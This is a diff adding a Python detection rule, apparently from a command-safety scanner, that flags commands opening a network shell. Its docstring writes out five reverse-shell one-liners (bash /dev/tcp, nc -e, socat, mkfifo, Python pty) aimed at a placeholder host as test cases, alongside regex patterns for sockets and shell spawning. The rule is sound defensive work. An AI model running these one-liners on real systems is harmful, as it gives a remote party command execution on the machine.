@@ -1,0 +1,64 @@
+r"""Opens a network shell.
+
+A shell of this computer is put on a network connection. Whoever is at the other end can type commands that run here
+with your rights, for as long as the connection lasts.
+
+Flags:
+    EXEC-NETSHELL        bash -c 'bash -i >& /dev/tcp/files.example.com/99 0>&1'
+    EXEC-NETSHELL        nc -e /bin/sh files.example.com 99
+    EXEC-NETSHELL        socat tcp:files.example.com:99 exec:/bin/sh
+    EXEC-NETSHELL        sh -c 'mkfifo p; cat p | sh -i 2>&1 | nc files.example.com 99 > p'
+    EXEC-NETSHELL        python3 -c 'import socket,os,pty; s=socket.socket(); s.connect(("files.example.com", 99));
+                             os.dup2(s.fileno(), 0); pty.spawn("sh")'
+Passes:
+    socat - tcp:files.example.com:99
+    nc files.example.com 99
+    sh -c 'echo ping | nc files.example.com 99'
+    ssh user@files.example.com
+    python3 -c 'import socket; print(socket.gethostname())'
+Source: MITRE ATT&CK T1059.004; ncat(1); socat(1).
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from consentry.effects import Effect
+from consentry.model import Finding, Level
+from consentry.rules.interface import Case, Wording, every, on_part
+from consentry.rules.scripts import tell, wired
+
+IDS: tuple[str, ...] = ("EXEC-NETSHELL",)
+
+NETSHELL = Wording(
+    id="EXEC-NETSHELL",
+    level=Level.DANGER,
+    title="Opens a network shell",
+    says="This gives somebody on the network a shell on this computer.",
+    consequence="Somebody on the network can type commands here.",
+    phrase="open a remote shell",
+)
+
+_CONNECTS = re.compile(
+    r"socket|TCPClient|TCPSocket|fsockopen|net\.(?:connect|Socket|createConnection)|Net\.Sockets|create_connection|"
+    r"Deno\.connect|Bun\.connect"
+)
+_SHELL = re.compile(
+    r"dup2|pty\.spawn|/bin/(?:ba|da|z|k)?sh|\bcmd(?:\.exe)?['\"]|powershell|subprocess|child_process|"
+    r"\biex\b|Invoke-Expression|proc_open|shell_exec|exec\s{0,9}[\"'(]"
+)
+
+
+def _inline(text: str) -> bool:
+    return bool(_CONNECTS.search(text)) and bool(_SHELL.search(text))
+
+
+def check(case: Case, /) -> Iterator[Finding]:
+    """Findings about shells on a connection."""
+    for told, command in wired(case):
+        yield tell(NETSHELL, case, told, command)
+    for part in every(case.plan):
+        powershell = part.runner == "powershell" and part.effect in (Effect.SHELL_TEXT, Effect.ENCODED)
+        if (part.effect == Effect.INLINE_CODE or powershell) and _inline(part.detail[:65_536]):
+            yield on_part(NETSHELL, case, part)
